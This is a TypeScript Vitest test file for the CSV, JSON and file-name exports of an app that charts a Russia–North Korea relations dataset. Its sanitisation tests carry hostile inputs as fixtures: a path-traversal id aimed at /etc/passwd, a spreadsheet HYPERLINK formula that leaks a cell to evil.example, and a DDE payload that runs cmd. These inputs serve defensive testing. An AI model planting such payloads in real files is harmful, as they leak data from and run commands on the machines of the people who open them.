/// <reference types="node" />
import { loadJsonText } from '../model/import';
import { readdirSync, readFileSync } from 'node:fs';
import { csvParse, csvParseRows } from 'd3-dsv';
import { afterEach, describe, expect, it } from 'vitest';
import { setDateLocale } from '../model/dates';
import { loadDataset, type Story } from '../model/load';
import { parseCsvRows, startsFormula } from '../model/csv-cell';
import { datasetJson, exportName, relationsCsv, safeFileStem } from './files';

const bundled = JSON.parse(
	readFileSync(new URL('../../../data/russia-dprk.json', import.meta.url), 'utf8')
) as unknown;
const result = loadDataset(bundled);
if (!result.ok) throw new Error('the bundled story must load');
const story: Story = result.story;
const june20 = Date.UTC(2024, 5, 20);

describe('exports', () => {
	it('exportName names the file after the story, the day and the view', () => {
		expect(exportName(story, Date.UTC(2024, 5, 19), 'graph', 'png')).toBe(
			'russia-dprk-2024-06-19-graph.png'
		);
	});

	afterEach(() => setDateLocale(undefined));

	it('relationsCsv lists the relations in force at the moment, with the 19 June 2024 pact on 20 June', () => {
		setDateLocale('en-GB');
		const rows = csvParse(relationsCsv(story, june20));
		const pact = rows.find((r) => r.id === 'partnership-2024');
		expect(pact).toMatchObject({ from: 'Russia', to: 'North Korea', since: '19 June 2024' });
		// The dates' locale (a link's `lang`) writes the export's dates too.
		setDateLocale('en-US');
		const us = csvParse(relationsCsv(story, june20)).find((r) => r.id === 'partnership-2024');
		expect(us?.since).toBe('June 19, 2024');
		expect(pact?.since_date).toBe('2024-06-19');
		expect(
			csvParse(relationsCsv(story, Date.UTC(2020, 0, 1))).some((r) => r.id === 'partnership-2024')
		).toBe(false);
	});

	it('exportName keeps slashes, dots, controls and device names out of the file name', () => {
		const hostile = { ...story, data: { ...story.data, id: '../../etc/passwd\u0000<x>' } };
		expect(exportName(hostile, june20, 'graph', 'svg')).toBe('etc-passwd-x-2024-06-20-graph.svg');
		expect(safeFileStem('CON')).toBe('CON-file');
		expect(safeFileStem('...')).toBe('story');
		expect(safeFileStem('Россия–КНДР')).toBe('Россия-КНДР');
		expect(Array.from(safeFileStem('x'.repeat(500)))).toHaveLength(60);
	});

	it('relationsCsv writes a formula in a label or a name as text, and reads back as it was', () => {
		const label = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
		const name = "@SUM(1+1)*cmd|' /C calc'!A0";
		const hostile = loadDataset({
			...(bundled as object),
			relations: story.data.relations?.map((r) =>
				r.id === 'partnership-2024' ? { ...r, label } : r
			),
			actors: story.data.actors.map((a) => (a.id === 'russia' ? { ...a, name } : a))
		});
		if (!hostile.ok) throw new Error(hostile.errors[0]?.message);
		const text = relationsCsv(hostile.story, june20);
		for (const cell of csvParseRows(text).flat()) expect(startsFormula(cell), cell).toBe(false);
		const [header, ...rows] = parseCsvRows(text);
		const pact = rows.find((r) => r[0] === 'partnership-2024');
		expect(pact?.[header!.indexOf('relation')]).toBe(label);
		expect(pact?.[header!.indexOf('from')]).toBe(name);
	});

	it('the CSV templates hold no cell a spreadsheet would run', () => {
		const folder = new URL('../../../data/templates/', import.meta.url);
		const names = readdirSync(folder).filter((n) => n.endsWith('.csv'));
		expect(names.length).toBeGreaterThan(4);
		for (const name of names) {
			const text = readFileSync(new URL(name, folder), 'utf8');
			for (const cell of csvParseRows(text).flat()) expect(startsFormula(cell), name).toBe(false);
		}
	});

	it('datasetJson gives back a dataset that loads', () => {
		const again = loadJsonText(datasetJson(story), 'story.json');
		expect(again.ok).toBe(true);
		expect(again.ok && again.story.events.length).toBe(story.events.length);
	});
});
